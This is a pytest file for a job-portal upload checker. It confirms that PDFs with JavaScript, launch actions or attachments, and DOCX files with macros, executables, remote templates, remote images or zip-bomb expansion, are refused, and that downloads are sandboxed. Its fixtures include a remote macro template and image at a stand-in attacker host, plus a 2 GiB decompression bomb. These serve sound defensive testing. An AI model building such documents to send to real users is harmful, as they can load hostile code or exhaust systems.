"""Resumes are checked beyond their first bytes, and downloads cannot run in the portal's origin (issue 12,
point 10). Every file below starts like a PDF or a DOCX, so each was accepted before this check."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from documents import (
    ATTACHED_TEMPLATE,
    HYPERLINK,
    MINIMAL_PDF,
    PDF_DAMAGED,
    PDF_EMBEDDED_FILE,
    PDF_FILE_ATTACHMENT,
    PDF_LINK_RUNNING_JAVASCRIPT,
    PDF_NAMED_JAVASCRIPT,
    PDF_OPENING_JAVASCRIPT,
    PDF_PAGE_ACTION_LAUNCH,
    docx_expanding_to,
    docx_with,
    minimal_docx,
    relationships,
)
from session_support import sign_in
from test_public_applications import count, demo_questions, field_error, post_application  # noqa: F401

from portal.extensions import db
from portal.models import Application, Resume
from portal.rules.documents import MAX_DOCX_ENTRIES, docx_problem
from portal.services.uploads import check_resume, store_resume

pytestmark = pytest.mark.program_settings(title="Fall Internship")


@pytest.fixture(scope="module")
def two_gigabyte_docx() -> bytes:
    """About 2 MB on the wire, 2 GiB once unpacked (built once: compressing it takes a few seconds)."""
    return docx_expanding_to(2 * 1024**3)


def refused(client, app, content: bytes, name: str) -> str:
    """Post the application with this file; assert nothing was kept; the message beside the field."""
    response = post_application(client, resume=(io.BytesIO(content), name))
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'value="Ana Reyes"' in html  # what the applicant typed is still there
    assert count(Application) == 0 and count(Resume) == 0
    assert not any(Path(app.config["UPLOAD_FOLDER"]).glob("*"))
    return field_error(html, "resume")


# --- PDFs: they must parse, and carry no code or attachments --------------------------------------------


@pytest.mark.parametrize(
    "content, message",
    [
        (PDF_DAMAGED, "This PDF cannot be read"),
        (PDF_OPENING_JAVASCRIPT, "contains JavaScript"),
        (PDF_NAMED_JAVASCRIPT, "contains JavaScript"),
        (PDF_LINK_RUNNING_JAVASCRIPT, "contains JavaScript"),
        (PDF_PAGE_ACTION_LAUNCH, "starts programs"),
        (PDF_EMBEDDED_FILE, "has files attached inside it"),
        (PDF_FILE_ATTACHMENT, "has files attached inside it"),
    ],
    ids=["damaged", "open-action", "names-tree", "link-annotation", "launch", "embedded-file", "attachment"],
)
def test_a_pdf_with_active_content_or_attachments_is_refused_beside_the_field(client, program, app, content, message):
    assert message in refused(client, app, content, "resume.pdf")


def test_a_plain_pdf_is_still_accepted(client, program):
    assert post_application(client, resume=(io.BytesIO(MINIMAL_PDF), "cv.pdf")).status_code == 302
    assert count(Resume) == 1


# --- DOCX: bounded before unpacking; no macros, programs or remote content --------------------------------


def test_a_docx_that_unpacks_to_two_gigabytes_is_refused_without_unpacking_it(client, program, app, two_gigabyte_docx):
    assert len(two_gigabyte_docx) < 5 * 1024 * 1024  # small enough for the 5 MB limit
    assert "unpacks to far more than a resume" in refused(client, app, two_gigabyte_docx, "resume.docx")


def test_a_docx_with_too_many_parts_is_refused():
    parts = {f"word/media/image{number}.png": b"" for number in range(MAX_DOCX_ENTRIES)}
    assert "unpacks to far more than a resume" in docx_problem(docx_with(parts))


@pytest.mark.parametrize(
    "extra, content_types, message",
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "<Types/>", "contains macros"),
        ({}, '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
         "contains macros"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, "<Types/>", "embedded objects or programs"),
        ({"word/embeddings/setup.exe": b"MZ"}, "<Types/>", "embedded objects or programs"),
        ({"word/_rels/settings.xml.rels": relationships((ATTACHED_TEMPLATE, "https://evil.example/t.dotm"))},
         "<Types/>", "loads content from the internet"),
        ({"word/_rels/document.xml.rels": relationships(
            (HYPERLINK, "https://ana.example.org"),
            ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "https://evil.example/p.png"),
        )}, "<Types/>", "loads content from the internet"),
    ],
    ids=["vba-project", "macro-enabled-type", "ole-object", "executable", "remote-template", "remote-image"],
)  # fmt: skip
def test_a_docx_with_macros_programs_or_remote_content_is_refused_beside_the_field(
    client, program, app, extra, content_types, message
):
    assert message in refused(client, app, docx_with(extra, content_types), "resume.docx")


def test_a_docx_with_links_to_a_portfolio_is_accepted(client, program):
    """Hyperlinks are external relationships too, but are only followed when clicked: resumes have them."""
    links = relationships((HYPERLINK, "https://ana.example.org"), (HYPERLINK, "mailto:ana@example.org"))
    content = docx_with({"word/_rels/document.xml.rels": links})
    assert post_application(client, resume=(io.BytesIO(content), "cv.docx")).status_code == 302
    assert count(Resume) == 1


# --- downloads ----------------------------------------------------------------------------------------------


def test_a_downloaded_resume_is_sandboxed_and_never_sniffed(client, app, program, supervisor):
    from factories import ApplicationFactory

    application = ApplicationFactory(program=program)
    store_resume(application, check_resume(io.BytesIO(minimal_docx()), "cv.docx"), app.config["UPLOAD_FOLDER"])
    db.session.commit()
    sign_in(client, supervisor)
    response = client.get(f"/review/applications/{application.id}/resume")
    assert response.status_code == 200
    assert response.headers["Content-Security-Policy"].split(";")[0] == "sandbox"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
